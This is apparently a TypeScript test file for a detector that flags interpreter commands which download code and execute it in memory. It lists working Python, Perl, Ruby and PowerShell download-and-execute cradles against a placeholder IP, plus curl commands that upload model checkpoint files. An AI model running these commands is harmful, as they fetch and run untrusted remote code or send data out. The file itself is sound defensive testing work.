/**
 * Interpreter code that runs what it downloads in one expression (exec-interpreter-fetched-code.ts
 * and PowerShell's `iex` of a download): the reading names the download tool as fed to a script
 * (`pipedToShell`), as for `curl URL | python3 -`, and MLS-RAY-012 alerts through the shipped
 * rules; code run from a file, a download whose text is not run, or a variable nobody downloaded
 * into stay `runtime` only.
 */
import { describe, expect, it } from 'vitest';
import { execRuleIds } from './exec-events.test-support.js';
import { canonicalExecValue, INDIRECT_RUNTIME } from './exec-canonical.js';
import { memoryFetchTool, statementEnd } from './exec-interpreter-fetched-code.js';
import { lexScript } from './exec-interpreter-lex.js';
import { bracketMatch } from './exec-interpreter-value.js';

const RULE = 'MLS-RAY-012';
const U = 'http://203.0.113.5/p';
const fed = (argv: string[]): readonly string[] => canonicalExecValue(argv)!.fedToShell;

const CRADLES: Array<[string, string[], string]> = [
  ['Python exec(urlopen().read())', ['python3', '-c', `import urllib.request; exec(urllib.request.urlopen("${U}").read())`], 'curl'],
  ['Python from-import, .decode()', ['python3', '-c', `from urllib.request import urlopen; exec(urlopen("${U}").read().decode())`], 'curl'],
  ['Python requests, eval(compile())', ['python3', '-c', `import requests; eval(compile(requests.get("${U}").text, "x", "exec"))`], 'curl'],
  ['Perl eval get', ['perl', '-MLWP::Simple', '-e', `eval get("${U}")`], 'curl'],
  ['Perl eval(get())', ['perl', '-MLWP::Simple', '-e', `eval(get("${U}")); print 1`], 'curl'],
  ['Ruby eval(Net::HTTP.get)', ['ruby', '-e', `require "net/http"; eval(Net::HTTP.get(URI("${U}")))`], 'curl'],
  ['PowerShell IEX DownloadString', ['pwsh', '-c', `IEX (New-Object Net.WebClient).DownloadString('${U}')`], 'Invoke-WebRequest'],
  ['PowerShell iex (iwr).Content', ['powershell', '-nop', '-c', `iex (iwr ${U} -UseBasicParsing).Content`], 'Invoke-WebRequest'],
  ['PowerShell irm | iex', ['pwsh', '-c', `irm ${U} | iex`], 'Invoke-RestMethod'],
  ['PowerShell through a variable', ['pwsh', '-c', `$s = (New-Object Net.WebClient).DownloadString('${U}'); Invoke-Expression $s`], 'Invoke-WebRequest'],
];

describe('code that runs what it downloads', () => {
  it('names the download tool as fed to a script, and MLS-RAY-012 alerts', () => {
    for (const [name, argv, tool] of CRADLES) {
      expect(fed(argv), name).toContain(tool);
      expect(canonicalExecValue(argv)!.indirectKinds & INDIRECT_RUNTIME, name).toBe(INDIRECT_RUNTIME);
      expect(execRuleIds(argv), name).toContain(RULE);
    }
  });

  it('leaves code run from elsewhere, and downloads whose text is not run', () => {
    for (const argv of [
      ['python3', '-c', `import requests; exec(open("x.py").read()); print(requests.get("${U}").status_code)`],
      ['python3', '-c', `import urllib.request as u; u.urlretrieve("${U}", "/tmp/p"); exec(open("/tmp/p").read())`],
      ['python3', '-c', `import requests; r = requests.post("${U}", data=open("/ckpt/model.pt","rb")); exec(r.text)`],
      ['pwsh', '-c', 'iex (Get-Content ./a.ps1 -Raw)'],
      ['pwsh', '-c', `$r = iwr ${U}; Write-Output $r.StatusCode; iex $env:PAYLOAD`],
      ['perl', '-MLWP::Simple', '-e', `my $x = get("${U}"); print length($x); eval $ENV{CODE}`],
    ]) {
      expect(fed(argv), argv.join(' ')).toEqual([]);
      expect(execRuleIds(argv), argv.join(' ')).not.toContain(RULE);
    }
  });

  it('counts only downloads into memory: nothing written to a file, nothing sent', () => {
    expect(memoryFetchTool(['curl', U, '#requests.get'])).toBe('curl');
    expect(memoryFetchTool(['wget', '-q', U])).toBe('wget');
    for (const argv of [['curl', '-o', '/tmp/p', U], ['curl', '-T', '/ckpt/m.pt', U], ['curl', '--data-binary', '@f', U], ['curl', '-F', 'f=@x', U], ['wget', '--post-file=f', U], ['scp', 'a', 'b'], []]) {
      expect(memoryFetchTool(argv), argv.join(' ')).toBeNull();
    }
  });

  it('ends a call without parentheses at the next top-level `;`', () => {
    const tokens = lexScript('eval get("u", f(1; 2)); print 1', 'perl').tokens;
    const m = bracketMatch(tokens);
    const end = statementEnd(tokens, m, 0);
    expect(tokens[end]?.v).toBe(';');
    expect(tokens.slice(end + 1).map((t) => t.v)).toEqual(['print', '1']);
    expect(statementEnd(tokens, m, end)).toBe(tokens.length);
  });
});
